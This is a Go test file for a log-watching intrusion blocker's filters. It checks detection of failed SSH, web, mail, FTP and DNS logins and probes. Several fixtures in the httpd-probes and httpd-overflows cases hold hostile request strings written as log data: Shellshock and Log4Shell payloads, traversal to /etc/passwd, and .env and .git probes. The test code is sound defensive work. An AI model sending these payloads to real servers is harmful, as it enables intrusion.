package builtin

import (
	"bufio"
	"os"
	"strings"
	"testing"

	"pfwarden/internal/testkit"

	"github.com/google/go-cmp/cmp"
)

// TestFormats gives each filter lines as the servers write them, in every form that it claims to know.
func TestFormats(t *testing.T) {
	t.Parallel()
	const a, a6 = "198.51.100.7", "2001:db8::7"
	fail := func(user string) found { return found{who: a, count: 1, user: user} }
	login := func(user string) found { return found{who: a, count: 1, user: user, login: true} }
	none := found{}
	for _, c := range []struct {
		name, spec string
		lines      []string
		want       []found
	}{
		{"sshd: unknown user, one password", "sshd", []string{
			"Nov 22 15:20:08 vm sshd[30482]: Invalid user admin from 198.51.100.7 port 55222",
			"Nov 22 15:20:08 vm sshd[30482]: Failed password for invalid user admin from 198.51.100.7 port 55222 ssh2",
			"Nov 22 15:20:09 vm sshd[30482]: Connection closed by invalid user admin 198.51.100.7 port 55222 [preauth]"},
			[]found{fail("admin"), none, none}},
		{"sshd: unknown user, three passwords", "sshd", []string{
			"Nov 22 15:20:08 vm sshd[30482]: Invalid user admin from 198.51.100.7 port 55222",
			"Nov 22 15:20:08 vm sshd[30482]: Failed password for invalid user admin from 198.51.100.7 port 55222 ssh2",
			"Nov 22 15:20:08 vm sshd[30482]: message repeated 2 times: [ Failed password for invalid user admin from 198.51.100.7 port 55222 ssh2]",
			"Nov 22 15:20:09 vm sshd[30482]: Connection closed by invalid user admin 198.51.100.7 port 55222 [preauth]"},
			[]found{fail("admin"), none, {who: a, count: 2, user: "admin"}, none}},
		{"sshd: unknown users of whom no more is told", "sshd", []string{
			"Nov 22 15:20:08 vm sshd[30482]: Invalid user admin from 198.51.100.7 port 55222",
			"Nov 22 15:20:08 vm sshd[30483]: Invalid user admin from 198.51.100.7 port 55223"},
			[]found{fail("admin"), fail("admin")}},
		{"sshd: unknown user who tries no password", "sshd", []string{
			"Nov 22 15:20:08 vm sshd-session[30482]: Invalid user admin from 198.51.100.7 port 55222",
			"Nov 22 15:20:09 vm sshd-session[30482]: Connection closed by invalid user admin 198.51.100.7 port 55222 [preauth]"},
			[]found{fail("admin"), none}},
		{"sshd: three passwords, then a success", "sshd", []string{
			"Nov 22 15:20:08 vm sshd[1]: Failed password for root from 198.51.100.7 port 55222 ssh2",
			"Nov 22 15:20:08 vm sshd[1]: message repeated 2 times: [ Failed password for root from 198.51.100.7 port 55222 ssh2]",
			"Nov 22 15:20:08 vm sshd[1]: Accepted password for root from 198.51.100.7 port 55222 ssh2"},
			[]found{fail("root"), {who: a, count: 2, user: "root"}, login("root")}},
		{"sshd: key refused, then password", "sshd", []string{
			"Nov 22 15:20:08 vm sshd[1]: Failed publickey for bob from 198.51.100.7 port 5 ssh2: ED25519 SHA256:abc/+d",
			"Nov 22 15:20:08 vm sshd[1]: Accepted publickey for bob from 198.51.100.7 port 5 ssh2: ED25519 SHA256:abc/+d"},
			[]found{none, login("bob")}},
		{"sshd: FreeBSD's PAM, counted once", "sshd", []string{
			"Nov 22 15:20:08 gw sshd[1]: error: PAM: Authentication error for root from 198.51.100.7",
			"Nov 22 15:20:08 gw sshd[1]: Failed keyboard-interactive/pam for root from 198.51.100.7 port 5 ssh2"},
			[]found{fail("root"), none}},
		{"sshd: OpenBSD's keyboard-interactive, RFC 3339, IPv6", "sshd", []string{
			"2026-11-22T15:20:08.123456+01:00 gw sshd-auth[77]: Failed keyboard-interactive/bsdauth for bob from 2001:db8::7 port 5 ssh2"},
			[]found{{who: a6, count: 1, user: "bob"}}},
		{"sshd: RFC 5424 and FreeBSD's verbose syslogd", "sshd", []string{
			"<38>1 2026-11-22T15:20:08.123456+01:00 gw sshd 77 - - Failed password for bob from 198.51.100.7 port 5 ssh2",
			"Nov 22 15:20:08 <auth.info> gw sshd[77]: Failed password for bob from 198.51.100.7 port 5 ssh2"},
			[]found{fail("bob"), fail("bob")}},
		{"sshd: maximum exceeded is no extra attempt", "sshd", []string{
			"Nov 22 15:20:08 vm sshd[1]: Failed password for root from 198.51.100.7 port 5 ssh2",
			"Nov 22 15:20:08 vm sshd[1]: error: maximum authentication attempts exceeded for root from 198.51.100.7 port 5 ssh2 [preauth]",
			"Nov 22 15:20:08 vm sshd[1]: Disconnecting authenticating user root 198.51.100.7 port 5: Too many authentication failures [preauth]"},
			[]found{fail("root"), none, none}},
		{"sshd: a reused process number keeps no old address", "sshd", []string{
			"Nov 22 15:20:08 vm sshd[1]: Invalid user a from 198.51.100.9 port 5",
			"Nov 22 15:21:08 vm sshd[1]: Failed password for root from 2001:db8::7 port 5 ssh2"},
			[]found{{who: "198.51.100.9", count: 1, user: "a"}, {who: a6, count: 1, user: "root"}}},
		{"sshd: aggressive", "sshd[mode=aggressive]", []string{
			"Nov 22 15:20:08 vm sshd[1]: Did not receive identification string from 198.51.100.7 port 5",
			"Nov 22 15:20:08 vm sshd[2]: Unable to negotiate with 198.51.100.7 port 5: no matching key exchange method found. Their offer: x [preauth]",
			"Nov 22 15:20:08 vm sshd[3]: banner exchange: Connection from 198.51.100.7 port 5: invalid format",
			"Nov 22 15:20:08 vm sshd[4]: Bad protocol version identification 'GET / HTTP/1.1' from 198.51.100.7 port 5",
			"Nov 22 15:20:08 vm sshd[5]: fatal: Timeout before authentication for 198.51.100.7 port 5",
			"Nov 22 15:20:08 vm sshd[6]: drop connection #3 from [198.51.100.7]:5 on [10.0.0.1]:22 penalty: failed authentication"},
			[]found{fail(""), fail(""), fail(""), fail(""), fail(""), fail("")}},
		{"httpd-auth: Apache 2.4, 2.2 and 1.3, nginx", "httpd-auth[access=no]", []string{
			`[Sun Nov 22 15:15:35.231487 2026] [auth_basic:error] [pid 15680:tid 15686] [client 198.51.100.7:43418] AH01617: user bob: authentication failure for "/priv/": Password Mismatch`,
			`[Sun Nov 22 15:15:35.231487 2026] [auth_basic:error] [pid 15680] [client 198.51.100.7:43418] AH01618: user eve not found: /priv/, referer: http://x/`,
			`[Sun Nov 22 15:15:35 2026] [error] [client 198.51.100.7] user bob: authentication failure for "/": Password Mismatch`,
			`[Sun Nov 22 15:15:35 2026] [error] [client 198.51.100.7] user bob not found: /`,
			`[Sun Nov 22 15:15:35 2026] [error] [client 198.51.100.7] user bob: password mismatch: /`,
			`[Sun Nov 22 15:15:35.231487 2026] [auth_digest:error] [pid 1:tid 2] [client 198.51.100.7:4] AH01792: user bob: password mismatch: /`,
			`2026/11/22 15:00:00 [error] 12#12: *1 user "bob": password mismatch, client: 198.51.100.7, server: localhost, request: "GET /a"b HTTP/1.1", host: "x"`,
			`2026/11/22 15:00:00 [error] 12#12: *1 user "bob" was not found in "/etc/nginx/.htpasswd", client: 198.51.100.7, server: , request: "GET / HTTP/1.1", host: "x"`,
			`198.51.100.7 - bob [22/Nov/2026:15:00:00 +0000] "GET / HTTP/1.1" 401 12`},
			[]found{fail("bob"), fail("eve"), fail("bob"), fail("bob"), fail("bob"), fail("bob"), fail("bob"), fail("bob"), none}},
		{"httpd-auth: Apache to syslog", "httpd-auth", []string{
			`Nov 22 23:06:10 www apache2[32198]: [auth_basic:error] [pid 32198:tid 32203] [client 198.51.100.7:56606] AH01618: user al" not found: /`,
			`Nov 22 23:06:10 www httpd[32197]: [auth_basic:error] [pid 32197] [client 198.51.100.7:56610] AH01617: user bob: authentication failure for "/": Password Mismatch`,
			`Nov 22 23:06:10 <auth.info> www httpd[123]: [auth_basic:error] [pid 123:tid 4] [client 198.51.100.7:56610] AH01618: user eve not found: /`,
			`Nov 22 23:06:10 httpd[123]: [error] [client 198.51.100.7] user bob not found: /`,
			`<35>1 2026-11-22T23:06:10.000000+00:00 www httpd 123 - - [auth_basic:error] [pid 123] [client 2001:db8::7:56610] AH01618: user eve not found: /`,
			`Nov 22 23:06:10 www httpd[123]: [auth_basic:error] [pid 123] AH01618: user eve not found: /`},
			[]found{fail(`al"`), fail("bob"), fail("eve"), fail("bob"), {who: a6, count: 1, user: "eve"}, none}},
		{"httpd-auth: access log", "httpd-auth", []string{
			`www.example.org 198.51.100.7 - bob [22/Nov/2026:15:00:00 +0000] "GET /x HTTP/1.1" 401 0`,
			`198.51.100.7 - bob [22/Nov/2026:15:00:00 +0000] "GET / HTTP/1.1" 401 12`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "GET / HTTP/1.1" 401 12`,
			`www.example.org 198.51.100.7 - bob [22/Nov/2026:15:00:00 +0000] "GET / HTTP/1.1" 401 0`},
			[]found{fail("bob"), fail("bob"), none, fail("bob")}},
		{"httpd-noscript", "httpd-noscript", []string{
			`[Sun Nov 22 15:15:35.231487 2026] [php:error] [pid 1:tid 2] [client 198.51.100.7:43418] script '/var/www/html/foo1.php' not found or unable to stat`,
			`[Sun Nov 22 15:15:35.231487 2026] [core:info] [pid 1:tid 2] [client 198.51.100.7:43418] AH00128: File does not exist: /var/www/html/foo1.php`,
			`[Sun Nov 22 15:15:35 2026] [error] [client 198.51.100.7] File does not exist: /var/www/html/foo1.asp, referer: http://x/`,
			`[Sun Nov 22 15:15:35 2026] [error] [client 198.51.100.7] File does not exist: /var/www/html/favicon.ico`,
			`[Sun Nov 22 15:15:35 2026] [error] [client 198.51.100.7] script not found or unable to stat: /usr/lib/cgi-bin/php`,
			`[Sun Nov 22 15:15:35.231487 2026] [cgid:error] [pid 1:tid 2] [client 198.51.100.7:4] AH01264: stderr from /var/www/html/foo1.php: script not found or unable to stat`,
			`[Sun Nov 22 15:15:35.231487 2026] [cgid:error] [pid 1:tid 2] [client 198.51.100.7:4] AH01215: stderr from /var/www/html/foo1.php: no script not found or unable to stat anything`,
			`[Sun Nov 22 15:15:35.231487 2026] [proxy_fcgi:error] [pid 1:tid 2] [client 198.51.100.7:4] AH01071: Got error 'Primary script unknown'`,
			`2026/11/22 15:00:00 [error] 12#12: *1 FastCGI sent in stderr: "Primary script unknown" while reading response header from upstream, client: 198.51.100.7, server: a, request: "GET /x.php HTTP/1.1", upstream: "fastcgi://unix:/run/php.sock:", host: "a"`,
			`2026/11/22 15:00:00 [error] 12#12: *1 open() "/usr/share/nginx/html/x.php" failed (2: No such file or directory), client: 198.51.100.7, server: a, request: "GET /x.php HTTP/1.1", host: "a"`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "GET /foo1.php?a=b HTTP/1.1" 404 153 "-" "curl"`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "GET /foo1.php HTTP/1.1" 200 153 "-" "curl"`,
			`www.example.org 198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "GET /foo1.php HTTP/1.1" 404 0`},
			[]found{fail(""), fail(""), fail(""), none, fail(""), fail(""), none, fail(""), fail(""), fail(""), fail(""), none, fail("")}},
		{"httpd-overflows", "httpd-overflows", []string{
			`[Sun Nov 22 15:15:35.231487 2026] [core:error] [pid 1:tid 2] [client 198.51.100.7:43418] AH00126: Invalid URI in request GET /../../etc HTTP/1.1`,
			`[Sun Nov 22 15:15:35 2026] [error] [client 198.51.100.7] request failed: URI too long (longer than 8190)`,
			`[Sun Nov 22 15:15:35.231487 2026] [core:info] [pid 1:tid 2] [client 198.51.100.7:43418] AH00565: request failed: client's request-line exceeds LimitRequestLine (longer than 8190)`,
			`[Sun Nov 22 15:15:35 2026] [error] [client 198.51.100.7] Invalid method in request \x80w\x01\x03\x01`,
			`[Sun Nov 22 15:15:35 2026] [error] [client 198.51.100.7] request failed: erroneous characters after protocol string: GET / HTTP/1.1x`,
			`[Sun Nov 22 15:15:35.231487 2026] [core:error] [pid 1:tid 2] (36)File name too long: [client 198.51.100.7:43418] AH00036: access to /aaaa failed (filesystem path '/var/www/aaaa')`,
			`[Sun Nov 22 15:15:35.231487 2026] [core:error] [pid 1:tid 2] [client 198.51.100.7:43418] AH10244: invalid URI path (/cgi-bin/.%2e/.%2e/bin/sh)`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "\x16\x03\x01\x02\x00\x01" 400 157 "-" "-"`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "GET /aaa HTTP/1.1" 414 157`,
			`2026/11/22 15:00:00 [info] 12#12: *1 client sent invalid method while reading client request line, client: 198.51.100.7, server: a, request: "x"`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "GET / HTTP/1.1" 400 157`},
			[]found{fail(""), fail(""), fail(""), fail(""), fail(""), fail(""), fail(""), fail(""), fail(""), fail(""), none}},
		{"httpd-probes", "httpd-probes", []string{
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "GET /.env HTTP/1.1" 404 157`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "GET /default.ida?XXXX HTTP/1.0" 404 157`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "GET /docs/.env-howto.html HTTP/1.1" 200 157`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "GET /.git/config HTTP/1.1" 200 157`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1" 404 157`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "GET / HTTP/1.1" 200 157 "-" "() { :; }; /bin/bash -c id"`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "GET / HTTP/1.1" 200 157 "${jndi:ldap://x/a}" "x"`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "GET /cgi-bin/.%2e/.%2e/etc/passwd HTTP/1.1" 400 157`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "POST /boaform/admin/formLogin HTTP/1.1" 404 157`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "POST /HNAP1/ HTTP/1.1" 404 157`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "GET /actuator/env HTTP/1.1" 404 157`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "GET /wp-login.php HTTP/1.1" 404 157`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "POST /wp-login.php HTTP/1.1" 200 157`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "GET /solr/admin/info/system HTTP/1.1" 404 157`,
			`198.51.100.7 - - [22/Nov/2026:15:00:00 +0000] "GET /environment/ HTTP/1.1" 200 157`,
			`[Sun Nov 22 15:15:35 2026] [error] [client 198.51.100.7] File does not exist: /var/www/html/.env`},
			[]found{fail(""), fail(""), none, fail(""), fail(""), fail(""), fail(""), fail(""), fail(""), fail(""), fail(""), fail(""), none, fail(""), none, fail("")}},
		{"postfix", "postfix", []string{
			"Nov 22 15:20:08 mx postfix/smtpd[1]: warning: unknown[198.51.100.7]: SASL LOGIN authentication failed: UGFzc3dvcmQ6",
			"Nov 22 15:20:08 mx postfix/submission/smtpd[1]: warning: a-b.example[198.51.100.7]: SASL PLAIN authentication failed: (reason unavailable), sasl_username=bob@example.org",
			"Nov 22 15:20:08 mx postfix/smtps/smtpd[1]: warning: unknown[198.51.100.7]: SASL PLAIN authentication failed: Connection lost to authentication server",
			"Nov 22 15:20:08 mx postfix/smtpd[1]: NOQUEUE: reject: RCPT from unknown[198.51.100.7]: 554 5.7.1 <a@b.c>: Relay access denied; from=<x@y.z> to=<a@b.c> proto=ESMTP helo=<h>",
			"Nov 22 15:20:08 mx postfix/smtpd[1]: NOQUEUE: reject: RCPT from unknown[198.51.100.7]: 550 5.1.1 <a@b.c>: Recipient address rejected: User unknown in local recipient table; from=<x@y.z> to=<a@b.c> proto=ESMTP helo=<h>",
			"Nov 22 15:20:08 mx postfix/smtpd[1]: too many errors after AUTH from unknown[198.51.100.7]",
			"Nov 22 15:20:08 mx postfix/smtpd[1]: 4B1C2D3E: client=home.example[198.51.100.7], sasl_method=PLAIN, sasl_username=bob",
			"Nov 22 15:20:08 mx postfix/smtpd[1]: connect from unknown[198.51.100.7]"},
			[]found{fail(""), fail("bob@example.org"), none, fail(""), fail(""), fail(""), login("bob"), none}},
		{"smtpd", "smtpd", []string{
			"Nov 22 15:20:08 mx smtpd[1]: 0123456789abcdef smtp connected address=198.51.100.7 host=<unknown>",
			"Nov 22 15:20:08 mx smtpd[1]: 0123456789abcdef smtp authentication user=bob result=permfail",
			`Nov 22 15:20:08 mx smtpd[1]: 0123456789abcdef smtp failed-command command="AUTH PLAIN (...)" result="535 Authentication failed"`,
			`Nov 22 15:20:08 mx smtpd[1]: 0123456789abcdef smtp failed-command command="RCPT TO:<a@b.c>" result="550 Invalid recipient: <a@b.c>"`,
			"Nov 22 15:20:08 mx smtpd[1]: 0123456789abcdef smtp disconnected reason=quit",
			"Nov 22 15:20:08 mx smtpd[1]: 0123456789abcdef smtp authentication user=bob result=permfail",
			`Nov 22 15:20:08 mx smtpd[1]: fedcba9876543210 smtp event=failed-command address=198.51.100.7 host=h command="AUTH LOGIN" result="535 Authentication failed"`},
			[]found{none, fail("bob"), none, fail("bob"), none, none, fail("")}},
		{"dovecot", "dovecot", []string{
			"Nov 22 15:20:08 mx dovecot: imap-login: Disconnected: Connection closed (auth failed, 3 attempts in 12 secs): user=<bob>, method=PLAIN, rip=198.51.100.7, lip=10.0.0.1, TLS, session=<abc>",
			"Nov 22 15:20:08 mx dovecot: pop3-login: Aborted login (auth failed, 1 attempts): user=<bob>, method=PLAIN, rip=198.51.100.7, lip=10.0.0.1",
			"Nov 22 15:20:08 mx dovecot[7]: imap-login: Login aborted: Logged out (auth failed, 1 attempts in 2 secs) (auth_failed): user=<bob>, method=PLAIN, rip=198.51.100.7, lip=10.0.0.1, TLS, session=<a/b>",
			"Nov 22 15:20:08 mx dovecot: imap-login: Login: user=<bob>, method=PLAIN, rip=198.51.100.7, lip=10.0.0.1, mpid=12, TLS, session=<a/b>",
			"Nov 22 15:20:08 mx dovecot: imap-login: Disconnected (no auth attempts in 0 secs): user=<>, rip=198.51.100.7, lip=10.0.0.1"},
			[]found{{who: a, count: 3, user: "bob"}, fail("bob"), fail("bob"), login("bob"), none}},
		{"ftpd and vsftpd", "ftpd", []string{
			"Nov 22 15:20:08 gw ftpd[1]: FTP LOGIN FAILED FROM 198.51.100.7, bob",
			"Nov 22 15:20:08 gw ftpd[1]: repeated login failures from 198.51.100.7",
			"Nov 22 15:20:08 gw ftpd[2]: FTP LOGIN REFUSED FROM 198.51.100.7, root",
			"Nov 22 15:20:08 gw ftpd[3]: FTP LOGIN FROM 198.51.100.7 as bob"},
			[]found{fail(""), none, fail(""), login("bob")}},
		{"vsftpd", "vsftpd", []string{
			`Sun Nov 22 15:00:00 2026 [pid 1] [bob] FAIL LOGIN: Client "198.51.100.7"`,
			`Sun Nov 22 15:00:00 2026 [pid 1] [bob] FAIL LOGIN: Client "::ffff:198.51.100.7"`,
			`Sun Nov 22 15:00:00 2026 [pid 1] [bob] OK LOGIN: Client "198.51.100.7"`,
			`Sun Nov 22 15:00:00 2026 [pid 1] CONNECT: Client "198.51.100.7"`},
			[]found{fail("bob"), fail("bob"), login("bob"), none}},
		{"named", "named", []string{
			"22-Nov-2026 15:00:00.000 security: info: client @0x7f1 198.51.100.7#4242 (example.com): query (cache) 'example.com/ANY/IN' denied (allow-query-cache did not match)",
			"Nov 22 15:20:08 ns named[1]: client 198.51.100.7#4242: query (cache) 'example.com/A/IN' denied",
			"Nov 22 15:20:08 ns named[1]: client 198.51.100.7#4242 (x): view v: zone transfer 'x/AXFR/IN' denied"},
			[]found{fail(""), fail(""), fail("")}},
		{"relayd", "relayd", []string{
			"Nov 22 15:20:08 gw relayd[1]: relay www, session 3 (1 active), 0, 198.51.100.7 -> :0, 403 Forbidden",
			"Nov 22 15:20:08 gw relayd[1]: relay www, session 3 (1 active), 0, 198.51.100.7 -> 10.0.0.1:80, done"},
			[]found{fail(""), none}},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			got := run(t, c.spec, c.lines...)
			for i := range got {
				if diff := cmp.Diff(c.want[i], got[i], cmp.AllowUnexported(found{})); diff != "" {
					t.Errorf("%s\n(-want +got):\n%s", c.lines[i], diff)
				}
			}
		})
	}
}

// TestRealLogs shows recall on real logs, against counts by plain string search.
func TestRealLogs(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		log, spec string
		expected  func(line string) bool
	}{
		{"OpenSSH_2k.log", "sshd", func(l string) bool { return strings.Contains(l, "Failed password for") }},
		{"Linux_2k.log", "sshd", func(l string) bool {
			_, rhost, ok := strings.Cut(l, "sshd(pam_unix)")
			_, rhost, _ = strings.Cut(rhost, "rhost=")
			host, _, _ := strings.Cut(rhost, " ")
			return ok && strings.Contains(l, "authentication failure;") && strings.Trim(host, "0123456789.") == "" && host != ""
		}},
		{"Apache_2k.log", "httpd-auth", func(string) bool { return false }},
	} {
		t.Run(c.log+" "+c.spec, func(t *testing.T) {
			t.Parallel()
			file, err := os.Open(testkit.Recorded(t, "data/logs/"+c.log))
			testkit.Must(t, err)
			defer file.Close()
			var lines []string
			for s := bufio.NewScanner(file); s.Scan(); {
				lines = append(lines, s.Text())
			}
			want, hit, failures := 0, 0, 0
			for i, f := range run(t, c.spec, lines...) {
				expected := c.expected(lines[i])
				matched := f.who != "" && !f.login
				if expected {
					want++
				}
				if matched {
					hit++
					failures += f.count
				}
				if matched != expected {
					t.Logf("matched %v, expected %v: %s", matched, expected, lines[i])
				}
			}
			t.Logf("%d lines, %d matched (%d failures), %d by plain search", len(lines), hit, failures, want)
			if hit < want {
				t.Errorf("matched %d lines, want at least %d", hit, want)
			}
		})
	}
}
